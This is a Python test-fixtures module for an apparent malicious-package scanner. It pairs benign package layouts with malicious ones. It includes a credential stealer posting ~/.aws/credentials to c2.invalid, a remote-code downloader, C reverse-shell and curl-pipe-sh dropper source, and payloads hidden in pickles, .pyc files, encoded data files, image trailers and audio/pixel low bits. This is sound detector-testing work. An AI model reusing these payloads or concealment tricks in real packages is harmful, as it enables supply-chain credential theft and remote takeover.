"""Inert fixtures for payloads a package carries, one per technique shape, with the verdict
and rule ids each must produce beside it.

Nothing here runs a payload: pickles are written opcode by opcode (never `pickle.loads`),
bytecode is `compile()` of inert source written by this file, native libraries are compiled
from C that is never loaded, and every endpoint is 127.0.0.1 or a `.invalid` host.
"""

from __future__ import annotations

import base64
import codecs
import importlib.util
import marshal
import math
import pickle
import shutil
import struct
import subprocess
import sys
import tempfile
import wave
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from io import BytesIO
from pathlib import Path

Files = dict[str, str | bytes]

STEALER = (
    "import os, urllib.request\n"
    "data = open(os.path.expanduser('~/.aws/credentials')).read()\n"
    "urllib.request.urlopen('http://c2.invalid/collect', data=data.encode())\n"
)
DOWNLOADER = (
    "import urllib.request\n"
    "exec(urllib.request.urlopen('http://c2.invalid/stage2').read())\n"
)
HERE = "import os\nHERE = os.path.dirname(__file__)\n"


# -- pickles, written opcode by opcode -----------------------------------------------------


def _ustr(text: str) -> bytes:
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def pickle_stack_global(module: str, name: str, arg: str) -> bytes:
    """Protocol 4: STACK_GLOBAL module.name, called with one string (REDUCE)."""
    return (b"\x80\x04" + _ustr(module) + b"\x94" + _ustr(name) + b"\x94\x93\x94" + _ustr(arg)
            + b"\x85R.")


def pickle_global(module: str, name: str, arg: str) -> bytes:
    """Protocol 2: GLOBAL 'module name', called with one string (REDUCE)."""
    raw = arg.encode()
    return (b"\x80\x02c" + f"{module}\n{name}\n".encode() + b"X" + struct.pack("<I", len(raw))
            + raw + b"\x85R.")


def pickle_memo_indirect(module: str, name: str, arg: str) -> bytes:
    """Evasion: the names reach STACK_GLOBAL through the memo (BINPUT, POP, BINGET)."""
    return (b"\x80\x04" + _ustr(module) + b"q\x01" + _ustr(name) + b"q\x020" + b"0"
            + b"h\x01h\x02\x93" + _ustr(arg) + b"\x85R.")


def pickle_protocol0(module: str, name: str, arg: str) -> bytes:
    return f"c{module}\n{name}\n(S'{arg}'\ntR.".encode()


TENSOR_PICKLE = (
    b"\x80\x02ccollections\nOrderedDict\nq\x00)Rq\x01X\x06\x00\x00\x00weightq\x02"
    b"ctorch._utils\n_rebuild_tensor_v2\nq\x03(X\x01\x00\x00\x000K\x00K\x02\x85K\x01\x85\x89"
    b"ccollections\nOrderedDict\n)Rtq\x04Rq\x05s."
)
"""What torch.save writes for {'weight': tensor}: an OrderedDict and a tensor rebuild."""


def torch_zip(data_pkl: bytes) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr("archive/data.pkl", data_pkl)
        zf.writestr("archive/data/0", b"\x00" * 8)
        zf.writestr("archive/version", b"3\n")
    return out.getvalue()


# -- bytecode -------------------------------------------------------------------------------


def pyc(source: str, name: str = "mod.py", unchecked_hash: bool = False) -> bytes:
    """A .pyc of the running interpreter: magic, flags (0, or 1 = hash-based, unchecked:
    PEP 552), mtime and size or hash, marshal."""
    code = compile(source, name, "exec")
    flags = b"\x01\x00\x00\x00" if unchecked_hash else b"\x00" * 4
    return importlib.util.MAGIC_NUMBER + flags + b"\x00" * 8 + marshal.dumps(code)


# -- media ---------------------------------------------------------------------------------


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(trailer: bytes = b"") -> bytes:
    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr)
            + _chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00")) + _chunk(b"IEND", b"") + trailer)


def png_pixels_lsb(payload: bytes, width: int = 64) -> bytes:
    """An RGB PNG (filter 0) whose channel bytes carry `payload` bits (MSB first) in their
    low bit: what `Image.getdata()` then `& 1` reads back."""
    bits = [(byte >> (7 - j)) & 1 for byte in payload for j in range(8)]
    channels = max(len(bits), 3 * width)
    height = -(-channels // (3 * width))
    flat = bytearray((37 * i) & 0xFE for i in range(3 * width * height))
    for k, bit in enumerate(bits):
        flat[k] |= bit
    rows = b"".join(b"\x00" + bytes(flat[r * 3 * width:(r + 1) * 3 * width])
                    for r in range(height))
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", zlib.compress(rows))
            + _chunk(b"IEND", b""))


def npy_object(pickled: bytes) -> bytes:
    """A .npy file of an object array: the header, then the pickle numpy writes for it."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (-(10 + len(header) + 1) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + pickled


def jpeg(trailer: bytes = b"") -> bytes:
    app0 = b"\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    sos = b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00"
    return b"\xff\xd8" + app0 + sos + b"\x12\x34\xff\x00\x56\xff\xd0\x78" + b"\xff\xd9" + trailer


def wav(payload: bytes = b"", per_byte: bool = False, seconds: float = 1.0) -> bytes:
    """16-bit mono WAV of a quiet tone; `payload` bits (MSB first) replace the low bit of
    each sample, or of each byte of the frames with `per_byte`."""
    rate = 8000
    frames = bytearray()
    for i in range(int(rate * seconds)):
        frames += struct.pack("<h", int(3000 * math.sin(i / 8)))
    bits = [(byte >> (7 - j)) & 1 for byte in payload for j in range(8)]
    stride = 1 if per_byte else 2
    assert len(bits) * stride <= len(frames), "payload too large for the tone"
    for k, bit in enumerate(bits):
        at = k * stride
        frames[at] = (frames[at] & 0xFE) | bit
    out = BytesIO()
    with wave.open(out, "wb") as w:
        w.setnchannels(1)
        w.setsampwidth(2)
        w.setframerate(rate)
        w.writeframes(bytes(frames))
    return out.getvalue()


# -- native ---------------------------------------------------------------------------------

C_REVERSE_SHELL = r"""
#include <arpa/inet.h>
#include <sys/socket.h>
#include <unistd.h>
int beacon(void) {
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a = {0};
    a.sin_family = AF_INET;
    a.sin_port = htons(4444);
    inet_pton(AF_INET, "127.0.0.1", &a.sin_addr);
    if (connect(s, (struct sockaddr *)&a, sizeof a) == 0) {
        char *argv[] = {"/bin/sh", 0};
        dup2(s, 0); dup2(s, 1);
        execve("/bin/sh", argv, 0);
    }
    return 0;
}
"""
C_DROPPER = r"""
#include <netdb.h>
#include <stdio.h>
#include <stdlib.h>
int fetch(void) {
    struct addrinfo *r;
    if (getaddrinfo("c2.invalid", "80", 0, &r) == 0) {
        FILE *p = popen("curl -s http://c2.invalid/stage | sh", "r");
        if (p) pclose(p);
        return system("true");
    }
    return 1;
}
"""
C_MATH = "double scale(double x) { return x * 2.5; }\nint add(int a, int b) { return a + b; }\n"


def shared_library(source: str) -> bytes | None:
    """`source` compiled with gcc into a shared library, or None without gcc."""
    gcc = shutil.which("gcc")
    if gcc is None:
        return None
    with tempfile.TemporaryDirectory() as tmp:
        c, so = Path(tmp) / "lib.c", Path(tmp) / "lib.so"
        c.write_text(source)
        done = subprocess.run([gcc, "-shared", "-fPIC", "-O1", "-o", str(so), str(c)],
                              capture_output=True, check=False)
        return so.read_bytes() if done.returncode == 0 else None


def xor(data: bytes, key: bytes) -> bytes:
    return bytes(b ^ key[i % len(key)] for i, b in enumerate(data))


# -- the fixtures ---------------------------------------------------------------------------


@dataclass(frozen=True)
class Fixture:
    technique: str
    shape: str
    verdict: str
    rules: frozenset[str]
    build: Callable[[], Files | None]
    """Wheel members (None: cannot be built here, e.g. no gcc)."""

    @property
    def name(self) -> str:
        return f"{self.technique}-{self.shape}"


def _f(technique: str, shape: str, verdict: str, rules: set[str],
       build: Callable[[], Files | None]) -> Fixture:
    return Fixture(technique, shape, verdict, frozenset(rules), build)


def _with_lib(source: str, init: str, name: str = "mypkg/libhelper.so") -> Files | None:
    lib = shared_library(source)
    if lib is None:
        return None
    return {"mypkg/__init__.py": init, name: lib}


FIXTURES: list[Fixture] = [
    # pickles loaded at import
    _f("pickle-exec", "stack-global-pkl", "malicious", {"PV230"}, lambda: {
        "mypkg/__init__.py": HERE + "import pickle\n"
        "MODEL = pickle.load(open(os.path.join(HERE, 'model.pkl'), 'rb'))\n",
        "mypkg/model.pkl": pickle_stack_global("builtins", "exec", "print('inert')"),
    }),
    _f("pickle-exec", "torch-zip-os-system", "malicious", {"PV230"}, lambda: {
        "mypkg/__init__.py": "import torch\nfrom pathlib import Path\n"
        "def _load():\n    return torch.load(Path(__file__).parent / 'weights.pt')\n"
        "STATE = _load()\n",
        "mypkg/weights.pt": torch_zip(pickle_global("os", "system", "echo inert")),
    }),
    _f("pickle-exec", "memo-indirect-bin", "malicious", {"PV230"}, lambda: {
        "mypkg/__init__.py": "import joblib, os\n"
        "clf = joblib.load(os.path.join(os.path.dirname(__file__), 'data', 'clf.bin'))\n",
        "mypkg/data/clf.bin": pickle_memo_indirect("subprocess", "getoutput", "id"),
    }),
    _f("pickle-exec", "protocol0-setup", "malicious", {"PV230"}, lambda: {
        "setup.py": "import pickle\nfrom setuptools import setup\n"
        "cfg = pickle.loads(open('build.cfg.pkl', 'rb').read())\nsetup(name='x')\n",
        "build.cfg.pkl": pickle_protocol0("posix", "system", "echo inert"),
    }),
    _f("pickle-exec", "b64-text-loads", "malicious", {"PV230"}, lambda: {
        "mypkg/__init__.py": HERE + "import pickle, base64\n"
        "STATE = pickle.loads(base64.b64decode(open(os.path.join(HERE, 'state.txt')).read()))\n",
        "mypkg/state.txt": base64.b64encode(pickle_stack_global("os", "system", "echo inert")),
    }),
    _f("pickle-exec", "npy-object-array", "malicious", {"PV230"}, lambda: {
        "mypkg/__init__.py": HERE + "import numpy as np\n"
        "LUT = np.load(os.path.join(HERE, 'lut.npy'), allow_pickle=True)\n",
        "mypkg/lut.npy": npy_object(pickle_global("builtins", "eval", "print('inert')")),
    }),
    _f("pickle-exec", "parenthesized-loader", "malicious", {"PV230"}, lambda: {
        # the loader's name in parentheses, its argument on a continued line: no
        # `loads(data` in the text for a word screen to find
        "mypkg/__init__.py": HERE + "import pickle\n"
        "MODEL = (pickle.loads) \\\n    (open(os.path.join(HERE, 'model.dat'), 'rb').read())\n",
        "mypkg/model.dat": pickle_stack_global("builtins", "exec", "print('inert')"),
    }),
    _f("pickle-exec", "renamed-loader", "malicious", {"PV230"}, lambda: {
        "mypkg/__init__.py": HERE + "from pickle import (\n    load as restore,\n)\n"
        "CACHE = restore(open(os.path.join(HERE, 'cache.bin'), 'rb'))\n",
        "mypkg/cache.bin": pickle_global("os", "system", "echo inert"),
    }),
    _f("pickle-benign", "plain-data", "benign", set(), lambda: {
        "mypkg/__init__.py": HERE + "import pickle\n"
        "TABLE = pickle.load(open(os.path.join(HERE, 'table.pkl'), 'rb'))\n",
        "mypkg/table.pkl": pickle.dumps({"a": [1, 2.5, "x"], "b": (None, True, b"z"),
                                         "c": {1, 2}}, protocol=4),
    }),
    _f("pickle-benign", "torch-zip-tensors", "benign", set(), lambda: {
        "mypkg/__init__.py": "import torch, os\n"
        "W = torch.load(os.path.join(os.path.dirname(__file__), 'weights.pth'))\n",
        "mypkg/weights.pth": torch_zip(TENSOR_PICKLE),
    }),
    _f("pickle-benign", "torch-reads-labels", "benign", set(), lambda: {
        # names torch, opens a bundled file and calls json's load: worth a look, loads nothing
        "mypkg/__init__.py": HERE + "import json\nimport torch\n\n"
        "with open(os.path.join(HERE, 'labels.json')) as fh:\n    LABELS = json.load(fh)\n"
        "WEIGHTS = torch.ones(len(LABELS))\n",
        "mypkg/labels.json": '["cat", "dog"]\n',
    }),
    # bytecode shipped without source
    _f("pyc-only", "fetch-exec-init", "malicious", {"PV232", "PV908"}, lambda: {
        "mypkg/__init__.pyc": pyc(DOWNLOADER),
    }),
    _f("pyc-only", "decode-exec-submodule", "malicious", {"PV232"}, lambda: {
        "mypkg/__init__.py": "from . import _speedups\n",
        "mypkg/_speedups.pyc": pyc("import base64, zlib\n"
                                   "def _go(b):\n    exec(zlib.decompress(base64.b64decode(b)))\n"
                                   f"_go({base64.b64encode(zlib.compress(b'print(1)'))!r})\n"),
    }),
    _f("pyc-only", "renamed-sourceless-loader", "malicious", {"PV232"}, lambda: {
        "mypkg/__init__.py": HERE + "from importlib.machinery import SourcelessFileLoader\n"
        "_m = SourcelessFileLoader('_m', os.path.join(HERE, 'core.dat')).load_module()\n",
        "mypkg/core.dat": pyc(DOWNLOADER),
    }),
    _f("pyc-stray", "unchecked-hash-pycache", "malicious", {"PV232", "PV233"}, lambda: {
        "mypkg/__init__.py": "import math\n\ndef area(r):\n    return math.pi * r * r\n",
        f"mypkg/__pycache__/__init__.{sys.implementation.cache_tag}.pyc": pyc(
            "import math\n\ndef area(r):\n    return math.pi * r * r\n" + DOWNLOADER,
            "__init__.py", unchecked_hash=True),
    }),
    _f("pyc-benign", "matching-unchecked-pycache", "benign", set(), lambda: {
        "mypkg/__init__.py": "import math\n\ndef area(r):\n    return math.pi * r * r\n",
        f"mypkg/__pycache__/__init__.{sys.implementation.cache_tag}.pyc": pyc(
            "import math\n\ndef area(r):\n    return math.pi * r * r\n", "__init__.py",
            unchecked_hash=True),
    }),
    _f("pyc-benign", "math-only", "suspicious", {"PV908"}, lambda: {
        "mypkg/__init__.pyc": pyc("import math\ndef area(r):\n    return math.pi * r * r\n"),
    }),
    # data files read, decoded and executed
    _f("data-decode-exec", "xor-test-py", "malicious", {"PV245"}, lambda: {
        "mypkg/__init__.py": HERE + "with open(os.path.join(HERE, 'test.py'), 'rb') as fh:\n"
        "    blob = fh.read()\nexec(bytes(b ^ 0x5A for b in blob))\n",
        "mypkg/test.py": xor(STEALER.encode(), b"Z"),
    }),
    _f("data-decode-exec", "b64-xor-zlib-helper", "malicious", {"PV245"}, lambda: {
        "mypkg/__init__.py": "import os, base64, zlib\nKEY = b'k3y'\n"
        "def _d(data):\n    return bytes(c ^ KEY[i % len(KEY)] for i, c in enumerate(data))\n"
        "def boot():\n    p = os.path.join(os.path.dirname(__file__), 'assets', 'data.bin')\n"
        "    raw = open(p, 'rb').read()\n"
        "    exec(compile(zlib.decompress(_d(base64.b64decode(raw))), '<x>', 'exec'))\n"
        "boot()\n",
        "mypkg/assets/data.bin": base64.b64encode(xor(zlib.compress(DOWNLOADER.encode()),
                                                      b"k3y")),
    }),
    _f("data-decode-exec", "rot13-pkgutil-reversed", "malicious", {"PV245"}, lambda: {
        "mypkg/__init__.py": "import pkgutil, codecs\n"
        "_t = pkgutil.get_data(__name__, 'res/strings.txt').decode()[::-1]\n"
        "exec(codecs.decode(_t, 'rot13'))\n",
        "mypkg/res/strings.txt": codecs.encode(STEALER, "rot13")[::-1],
    }),
    _f("data-decode-exec", "xor-zip-cycle-key", "malicious", {"PV245"}, lambda: {
        "mypkg/__init__.py": HERE + "import itertools\n"
        "def _load(name):\n    with open(os.path.join(HERE, name), 'rb') as fh:\n"
        "        return fh.read()\n"
        "_src = bytes(a ^ b for a, b in zip(_load('messages.mo'), itertools.cycle(b'pkg')))\n"
        "exec(_src)\n",
        "mypkg/messages.mo": xor(DOWNLOADER.encode(), b"pkg"),
    }),
    _f("data-exec", "source-loader-non-py", "malicious", {"PV246", "PV303"}, lambda: {
        "mypkg/__init__.py": HERE + "import importlib.machinery\n"
        "importlib.machinery.SourceFileLoader('cfg', os.path.join(HERE, 'settings.cfg'))"
        ".load_module()\n",
        "mypkg/settings.cfg": STEALER,
    }),
    _f("data-benign", "json-config", "benign", set(), lambda: {
        "mypkg/__init__.py": HERE + "import json, base64\n"
        "CONFIG = json.loads(open(os.path.join(HERE, 'config.json')).read())\n"
        "LOGO = base64.b64decode(open(os.path.join(HERE, 'logo.b64')).read())\n",
        "mypkg/config.json": '{"a": 1}',
        "mypkg/logo.b64": base64.b64encode(png()).decode(),
    }),
    _f("data-benign", "setup-version-exec", "benign", set(), lambda: {
        "setup.py": "from setuptools import setup\nns = {}\n"
        "exec(open('mypkg/_version.py').read(), ns)\nsetup(name='x', version=ns['v'])\n",
        "mypkg/_version.py": "v = '1.0'\n",
        "mypkg/__init__.py": "",
    }),
    # image trailers
    _f("image-trailer", "png-b64-read-at-import", "malicious", {"PV245"}, lambda: {
        "mypkg/__init__.py": HERE + "import base64\n"
        "raw = open(os.path.join(HERE, 'logo.png'), 'rb').read()\n"
        "exec(base64.b64decode(raw.split(b'IEND')[1][4:]))\n",
        "mypkg/logo.png": png(base64.b64encode(STEALER.encode())),
    }),
    _f("image-trailer", "jpeg-zlib-tail-slice", "malicious", {"PV245", "PV248"}, lambda: {
        "mypkg/__init__.py": "import zlib, os\n"
        "def _icon():\n    return open(os.path.join(os.path.dirname(__file__), 'icon.jpg'), "
        "'rb').read()\n"
        f"def _init():\n    exec(zlib.decompress(_icon()[-{len(zlib.compress(DOWNLOADER.encode()))}:]))\n"
        "_init()\n",
        "mypkg/icon.jpg": jpeg(zlib.compress(DOWNLOADER.encode())),
    }),
    _f("image-benign", "png-no-trailer", "benign", set(), lambda: {
        "mypkg/__init__.py": "from PIL import Image\nimport os\n"
        "ICON = Image.open(os.path.join(os.path.dirname(__file__), 'icon.png'))\n",
        "mypkg/icon.png": png(),
    }),
    # WAV low bits
    _f("wav-lsb", "sample-lsb-exec", "malicious", {"PV247", "PV249"}, lambda: {
        "mypkg/__init__.py": "import wave, os\n"
        "w = wave.open(os.path.join(os.path.dirname(__file__), 'chime.wav'))\n"
        "frames = w.readframes(w.getnframes())\n"
        "bits = ''.join(str(frames[i] & 1) for i in range(0, len(frames), 2))\n"
        "data = bytes(int(bits[i:i + 8], 2) for i in range(0, len(bits), 8))\n"
        "exec(data.split(b'\\0')[0])\n",
        "mypkg/chime.wav": wav(STEALER.encode() + b"\x00"),
    }),
    _f("wav-lsb", "byte-lsb-b64-function", "malicious", {"PV247"}, lambda: {
        "mypkg/__init__.py": "import wave, base64\nfrom pathlib import Path\n"
        "def _stage():\n"
        "    with wave.open(str(Path(__file__).with_name('beep.wav')), 'rb') as w:\n"
        "        raw = bytearray(w.readframes(-1))\n"
        "    out = bytearray()\n"
        "    for i in range(0, len(raw) - 7, 8):\n"
        "        out.append(sum((raw[i + j] & 1) << (7 - j) for j in range(8)))\n"
        "    return base64.b64decode(bytes(out).rstrip(b'\\0'))\n"
        "def main():\n    eval(compile(_stage(), 'x', 'exec'))\nmain()\n",
        "mypkg/beep.wav": wav(base64.b64encode(DOWNLOADER.encode()) + b"\x00", per_byte=True),
    }),
    _f("image-lsb", "pil-pixel-lsb", "malicious", {"PV247"}, lambda: {
        "mypkg/__init__.py": "from PIL import Image\nimport os\n"
        "img = Image.open(os.path.join(os.path.dirname(__file__), 'banner.png'))\n"
        "bits = [c & 1 for px in img.getdata() for c in px]\n"
        "code = bytes(int(''.join(map(str, bits[i:i + 8])), 2) for i in range(0, len(bits), 8))\n"
        "exec(code.split(b'\\0')[0])\n",
        "mypkg/banner.png": png_pixels_lsb(STEALER.encode() + b"\x00"),
    }),
    _f("wav-benign", "duration", "benign", set(), lambda: {
        "mypkg/__init__.py": "import wave, os\n"
        "with wave.open(os.path.join(os.path.dirname(__file__), 'tone.wav')) as w:\n"
        "    SECONDS = w.getnframes() / w.getframerate()\n",
        "mypkg/tone.wav": wav(),
    }),
    # native libraries loaded through ctypes / cffi
    _f("native-ctypes", "reverse-shell-cdll", "malicious", {"PV240"}, lambda: _with_lib(
        C_REVERSE_SHELL, "import ctypes, os\n"
        "_lib = ctypes.CDLL(os.path.join(os.path.dirname(__file__), 'libhelper.so'))\n"
        "_lib.beacon()\n")),
    _f("native-ctypes", "dropper-cffi", "malicious", {"PV240"}, lambda: _with_lib(
        C_DROPPER, "import cffi, os\nffi = cffi.FFI()\nffi.cdef('int fetch(void);')\n"
        "def _boot():\n    lib = ffi.dlopen(os.path.join(os.path.dirname(__file__), "
        "'_native', 'core.so'))\n    lib.fetch()\n_boot()\n", "mypkg/_native/core.so")),
    _f("native-ctypes", "disguised-suffix-loadlibrary", "malicious", {"PV240"}, lambda: _with_lib(
        C_REVERSE_SHELL, "import ctypes\n"
        "ctypes.cdll.LoadLibrary(__file__.rsplit('/', 1)[0] + '/fonts/glyphs.dat')\n",
        "mypkg/fonts/glyphs.dat")),
    _f("native-benign", "math-cdll", "benign", set(), lambda: _with_lib(
        C_MATH, "import ctypes, os\n"
        "_lib = ctypes.CDLL(os.path.join(os.path.dirname(__file__), 'libhelper.so'))\n")),
    _f("native-benign", "dropper-extension-not-ctypes", "benign", set(), lambda: _with_lib(
        C_DROPPER, "from . import _core\n", "mypkg/_core.cpython-311-x86_64-linux-gnu.so")),
]
